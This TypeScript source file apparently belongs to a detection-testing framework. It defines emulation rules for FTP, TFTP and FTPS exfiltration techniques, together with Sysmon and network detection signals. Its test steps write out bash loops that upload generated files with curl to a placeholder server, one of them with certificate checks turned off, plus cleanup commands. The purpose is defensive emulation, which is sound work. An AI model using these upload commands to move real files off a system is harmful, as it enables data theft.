import type { Recipe, TechniqueId } from '../../../contract/validation.ts';
import { nearest } from './nearest.ts';
import { network, part, program, sysmon, without } from './signals.ts';
import type { Connects, TechniqueRule } from './technique-type.ts';

const orFail = "{ echo 'NOT CARRIED OUT' >&2; false; }";
const leftBehind = "{ echo 'LEFT BEHIND' >&2; false; }";
const file = '/tmp/{token}_upload.bin';

/**
 * Files put on a server by curl, which ends with an error where one was not taken. curl logs in as anonymous by itself (FTP), so that no
 * password is anywhere.
 */
export const ftpUpload: TechniqueRule = upload({
  id: 'ftp-upload',
  attack: ['T1071.002', 'T1048.003'],
  scheme: 'ftp',
  connects: { port: 21, protocolId: 6, transport: 'TCP', protocol: 'FTP', hasDataChannel: true },
  bytes: 3 * 2 ** 20,
  nearest: [nearest.mazeUpload, nearest.rclone, nearest.curlUpload],
  remove: ftpRemove('ftp', ''),
  twinPath: '',
});

/** One packet asks on port 69, the file goes from and to ports of its own (RFC 1350): blocks of 512 bytes, of which few are enough. */
export const tftp: TechniqueRule = upload({
  id: 'tftp',
  attack: ['T1071.002'],
  scheme: 'tftp',
  connects: { port: 69, protocolId: 17, transport: 'UDP', protocol: 'TFTP', hasDataChannel: true },
  bytes: 2 ** 18,
  nearest: [],
  // TFTP cannot delete: the server's own administrator does.
  remove: [],
  twinPath: 'probe.txt',
});

/** Encrypted from the first byte; the certificate of a test server is its own, and nothing secret is sent. */
export const ftps: TechniqueRule = upload({
  id: 'ftps',
  attack: ['T1071.002', 'T1048.002'],
  scheme: 'ftps',
  connects: { port: 990, protocolId: 6, transport: 'TCP', protocol: 'FTPS', hasDataChannel: true },
  bytes: 3 * 2 ** 20,
  nearest: [nearest.encryptedFtp],
  remove: ftpRemove('ftps', '--insecure '),
  twinPath: '',
});

function upload(about: {
  readonly id: TechniqueId;
  readonly attack: readonly string[];
  readonly scheme: 'ftp' | 'ftps' | 'tftp';
  readonly connects: Connects;
  readonly bytes: number;
  readonly nearest: TechniqueRule['nearest'];
  readonly remove: Recipe['cleanUp'];
  /** What the twin fetches: the list of files, or a file that is there. */
  readonly twinPath: string;
}): TechniqueRule {
  const { id, attack, scheme, connects, bytes, remove, twinPath } = about;
  const curl = `curl --silent --show-error --connect-timeout 10 ${scheme === 'ftps' ? '--insecure ' : ''}`;
  const uploads = [part('command', ' -T', '--upload-file'), part('command', `${scheme}://`)];
  return {
    id,
    platform: 'linux',
    attack,
    connects,
    bytes,
    // Blocks of 512 bytes, counted in 16 bits (RFC 1350, 2).
    mostBytes: scheme === 'tftp' ? 65_535 * 512 - 1 : null,
    commandBytes: 1,
    opens: 'each-time',
    signals: [
      sysmon('file', {
        id: 'file',
        signs: [part('file', '_upload.bin')],
        markedIn: ['file'],
        isTelling: true,
      }),
      sysmon('process', {
        id: 'process',
        signs: [program('curl'), ...uploads],
        markedIn: ['command'],
        isTelling: true,
      }),
      sysmon('connection', { id: 'connection', signs: [program('curl')], port: connects.port }),
      network(connects.port),
    ],
    witness: sysmon('process', {
      id: 'witness',
      signs: [
        program('curl'),
        part('command', `${scheme}://`),
        without('command', ' -T', '--upload-file'),
      ],
      markedIn: ['command'],
    }),
    test: {
      steps: [
        {
          id: 'file',
          shell: 'bash',
          command: `head -c {bytes} /dev/urandom > ${file} && test "$(stat -c %s ${file})" -eq {bytes} || ${orFail}`,
        },
        {
          id: 'upload',
          shell: 'bash',
          command: `(for n in $(seq {times}); do ${curl}-T ${file} "${scheme}://{authority}/{token}_$n.bin" || exit 1; done) || ${orFail}`,
        },
      ],
      cleanUp: [
        ...remove,
        {
          id: 'delete',
          shell: 'bash',
          command: `rm -f ${file}; test ! -e ${file} || ${leftBehind}`,
        },
      ],
    },
    twin: {
      steps: [
        {
          id: 'twin',
          shell: 'bash',
          command: `${curl}-o /tmp/{token}_fetched "${scheme}://{authority}/${twinPath}" || ${orFail}`,
        },
      ],
      cleanUp: [
        {
          id: 'delete',
          shell: 'bash',
          command: `rm -f /tmp/{token}_fetched; test ! -e /tmp/{token}_fetched || ${leftBehind}`,
        },
      ],
    },
    nearest: about.nearest,
  };
}

/** All files in one session more, which is no upload. */
function ftpRemove(scheme: string, option: string): Recipe['cleanUp'] {
  return [
    {
      id: 'delete-uploaded',
      shell: 'bash',
      command: `args=(); for n in $(seq {times}); do args+=(-Q "DELE {token}_$n.bin"); done; curl --silent --show-error ${option}--output /dev/null "\${args[@]}" "${scheme}://{authority}/" || ${leftBehind}`,
    },
  ];
}
